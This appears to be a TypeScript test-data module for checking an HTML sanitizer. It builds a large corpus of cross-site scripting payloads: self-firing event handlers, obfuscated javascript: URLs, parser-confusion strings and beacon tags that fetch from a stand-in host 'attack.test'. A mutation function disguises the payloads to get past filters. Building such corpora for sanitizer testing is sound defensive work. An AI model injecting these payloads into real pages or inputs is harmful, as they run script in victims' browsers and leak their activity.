import type { Chance } from "./chance.ts";

/** The code and the URL that every attack tries to run or fetch. */
export const ATTACK_CALL = "attacked()";
export const ATTACK_HOST = "attack.test";

const URL = `https://${ATTACK_HOST}/x`;

/** Elements whose handler runs automatically, up to the handler's name. */
const SELF_STARTING = [
  `<img src=x onerror`,
  `<img src="" onerror`,
  `<img srcset=x onerror`,
  `<image src=x onerror`,
  `<picture><source srcset=x><img src=x onerror`,
  `<svg onload`,
  `<svg><g onload`,
  `<svg><animate attributeName=x dur=1s onbegin`,
  `<svg><set attributeName=x dur=1s onbegin`,
  `<svg><image href=x onerror`,
  `<svg><style onload`,
  `<svg><a><rect width=9 height=9 /><animate attributeName=x onbegin`,
  `<svg><discard onbegin`,
  `<style onload`,
  `<script src=x onerror`,
  `<iframe onload`,
  `<iframe srcdoc=x onload`,
  `<object data=x onerror`,
  `<object data=about:blank onload`,
  `<embed src=about:blank onload`,
  `<video src=x onerror`,
  `<video><source src=x onerror`,
  `<audio src=x onerror`,
  `<audio><source src=x onerror`,
  `<link rel=stylesheet href=x onerror`,
  `<input type=image src=x onerror`,
  `<input autofocus onfocus`,
  `<button autofocus onfocus`,
  `<textarea autofocus onfocus`,
  `<select autofocus onfocus`,
  `<a href=# autofocus onfocus`,
  `<p tabindex=1 autofocus onfocus`,
  `<b contenteditable autofocus onfocus`,
  `<details open ontoggle`,
  `<dialog open onbeforetoggle`,
  `<marquee onstart`,
  `<body onload`,
  `<body onpageshow`,
  `<frameset onload`,
  `<table background=x onerror`,
  `<math><mtext><img src=x onerror`,
  `<p style="animation:spin 1s" onanimationstart`,
  `<b style="transition:color 1s" ontransitionrun`,
  `<p content-visibility=auto oncontentvisibilityautostatechange`,
  `<bgsound src=x onerror`,
  `<unknown-element autofocus tabindex=1 onfocus`,
];

/** Ways to write a handler's value. */
const HANDLERS = [`=${ATTACK_CALL}>`, `="${ATTACK_CALL}"></p>`, `\n=\n'${ATTACK_CALL}' x=">`];

/** Attributes that accept a URL, which replaces the asterisk. */
const ADDRESS_PLACES = [
  `<a href="*">x</a>`,
  `<a href='*' target=_self>x</a>`,
  `<a href=*>x</a>`,
  `<a xlink:href="*">x</a>`,
  `<svg><a href="*"><text y=9>x</text></a></svg>`,
  `<svg><a xlink:href="*"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="*" /><text y=9>x</text></a></svg>`,
  `<svg><use href="*" /></svg>`,
  `<math href="*">x</math>`,
  `<math><maction actiontype="statusline#*" xlink:href="*">x</maction></math>`,
  `<iframe src="*"></iframe>`,
  `<embed src="*">`,
  `<object data="*"></object>`,
  `<form action="*"><input type=submit autofocus></form>`,
  `<form id=f></form><button form=f formaction="*">x</button>`,
  `<area href="*">`,
  `<base href="*">`,
  `<meta http-equiv=refresh content="0;url=*">`,
  `<img src="*">`,
  `<input type=image src="*">`,
  `<body background="*">`,
  `<link rel=import href="*">`,
  `<video poster="*"></video>`,
];

const ADDRESSES = [
  `javascript:${ATTACK_CALL}`,
  `JaVaScRiPt:${ATTACK_CALL}`,
  `java\tscript:${ATTACK_CALL}`,
  `&#1;javascript:${ATTACK_CALL}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${ATTACK_CALL}`,
  `javascript&colon;${ATTACK_CALL}`,
  `java&Tab;script&NewLine;:${ATTACK_CALL}`,
  `javascript://https://example.com/%0A${ATTACK_CALL}`,
  `data:text/html,<script>parent.${ATTACK_CALL}</script>`,
  `vbscript:${ATTACK_CALL}`,
];

/** Text that parsers interpret differently. */
const CONFUSIONS = [
  `<script>${ATTACK_CALL}</script>`,
  `<SCRIPT\n>${ATTACK_CALL}</SCRIPT\t>`,
  `<scr<script>ipt>${ATTACK_CALL}</scr</script>ipt>`,
  `<<script>${ATTACK_CALL}//<</script>`,
  `<svg><script>${ATTACK_CALL}</script></svg>`,
  `<svg><script>&#97;ttacked&lpar;)</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK_CALL}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${ATTACK_CALL}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${ATTACK_CALL}>">`,
  `<title><p title="</title><img src=x onerror=${ATTACK_CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ATTACK_CALL}>">`,
  `<style><p title="</style><img src=x onerror=${ATTACK_CALL}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${ATTACK_CALL}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${ATTACK_CALL}>">`,
  `<plaintext><img src=x onerror=${ATTACK_CALL}>`,
  `<!--><img src=x onerror=${ATTACK_CALL}>-->`,
  `<!--->\n<img src=x onerror=${ATTACK_CALL}>-->`,
  `<!-- --!><img src=x onerror=${ATTACK_CALL}> -->`,
  `<!x><img src=x onerror=${ATTACK_CALL}>`,
  `<?x><img src=x onerror=${ATTACK_CALL}>`,
  `</ ><img src=x onerror=${ATTACK_CALL}>`,
  `<![CDATA[><img src=x onerror=${ATTACK_CALL}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${ATTACK_CALL}>]]>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ATTACK_CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ATTACK_CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ATTACK_CALL}>">`,
  `<math></p><style><!--</style><img src=x onerror=${ATTACK_CALL}>--></style>`,
  `<svg><p><style><g title="</style><img src=x onerror=${ATTACK_CALL}>">`,
  `<select><template><img src=x onerror=${ATTACK_CALL}></template></select>`,
  `<template><img src=x onerror=${ATTACK_CALL}></template>`,
  `<table><td><img src=x onerror=${ATTACK_CALL}><caption><script>${ATTACK_CALL}</script>`,
  `<a title="<img src=x onerror=${ATTACK_CALL}>">x</a>`,
  `<b title='"><img src=x onerror=${ATTACK_CALL}>'>x</b>`,
  `<b title=\`><img src=x onerror=${ATTACK_CALL}>\`>x</b>`,
  `&lt;img src=x onerror=${ATTACK_CALL}&gt;`,
  `&amp;lt;img src=x onerror=${ATTACK_CALL}&amp;gt;`,
  `&#60img src=x onerror=${ATTACK_CALL}&#62`,
  `<img/src=x/onerror=${ATTACK_CALL}>`,
  `<img\u000csrc=x\u000conerror=${ATTACK_CALL}>`,
  `<img src=x onerror=${ATTACK_CALL}`,
  `<img src=x\u0000 onerror=${ATTACK_CALL}>`,
  `<a href="https://e.test" onclick=${ATTACK_CALL} onpointerenter=${ATTACK_CALL}>x</a>`,
  `<mark class="cdx-marker" onpointerenter=${ATTACK_CALL} style="position:fixed;inset:0">x</mark>`,
  `<code class='inline-code"><img src=x onerror=${ATTACK_CALL}>'>x</code>`,
  `<a href="https://e.test/&quot;&gt;&lt;img src=x onerror=${ATTACK_CALL}&gt;">x</a>`,
  `<a href='https://e.test/"><img src=x onerror=${ATTACK_CALL}>'>x</a>`,
];

/** Runs nothing, but reveals that it was read. */
const BEACONS = [
  `<img src="${URL}">`,
  `<img srcset="${URL} 1x">`,
  `<picture><source srcset="${URL}"><img></picture>`,
  `<link rel=stylesheet href="${URL}">`,
  `<link rel=preload as=image href="${URL}">`,
  `<link rel=prefetch href="${URL}">`,
  `<style>@import "${URL}";</style>`,
  `<style>* { background: url(${URL}) }</style>`,
  `<p style="background:url(${URL})">x</p>`,
  `<b style="list-style:url(${URL})">x</b>`,
  `<i style='content:url("${URL}")'>x</i>`,
  `<video src="${URL}" autoplay></video>`,
  `<video poster="${URL}"></video>`,
  `<audio src="${URL}" autoplay></audio>`,
  `<track src="${URL}">`,
  `<embed src="${URL}">`,
  `<object data="${URL}"></object>`,
  `<iframe src="${URL}"></iframe>`,
  `<svg><image href="${URL}" /></svg>`,
  `<svg><use href="${URL}#a" /></svg>`,
  `<svg><feImage href="${URL}" /></svg>`,
  `<input type=image src="${URL}">`,
  `<table background="${URL}"><tr><td>x</table>`,
  `<body background="${URL}">`,
  `<base href="https://${ATTACK_HOST}/"><img src=x>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<script src="${URL}"></script>`,
  `<a href="https://e.test" ping="${URL}">x</a>`,
];

export const ATTACKS: readonly string[] = [
  ...SELF_STARTING.flatMap((start) => HANDLERS.map((end) => start + end)),
  ...ADDRESS_PLACES.flatMap((place) => ADDRESSES.map((one) => place.replaceAll("*", one))),
  ...CONFUSIONS,
  ...BEACONS,
];

const AROUND: readonly (readonly [string, string])[] = [
  ["<b>a", "b</b>"],
  ["<table><tr><td>", "</td></tr></table>"],
  ["<ul><li>", "</li></ul>"],
  ["<svg>", "</svg>"],
  ["<math><mtext>", "</mtext></math>"],
  ["<a href='https://e.test'>", "</a>"],
  ["<!--", "-->"],
  ["</p></td></table></b></a>", ""],
  ["<code class='inline-code'>", ""],
  ['<b title="', '">'],
];

const SIGNS = [..."<>/=\"'&;#! \n\t\u0000\u000c-`"];

/** A mutated attack: other case, context, inserted characters, missing parts. */
export function disguise(attack: string, chance: Chance): string {
  let html = attack;
  for (let change = chance.below(3); change >= 0; change -= 1) html = disturb(html, chance);
  return html;
}

function disturb(html: string, chance: Chance): string {
  const at = chance.below(html.length + 1);
  switch (chance.below(6)) {
    case 0:
      return html.slice(0, at) + chance.pick(SIGNS) + html.slice(at);
    case 1:
      return html.slice(0, at) + html.slice(at + 1);
    case 2:
      return html.replace(/[a-z]/g, (sign) => (chance.isLikely(0.3) ? sign.toUpperCase() : sign));
    case 3:
      return `${html.slice(0, at)}&#${html.codePointAt(at) ?? 0};${html.slice(at + 1)}`;
    case 4:
      return html + chance.pick(ATTACKS);
    default: {
      const [before, after] = chance.pick(AROUND);
      return before + html + after;
    }
  }
}
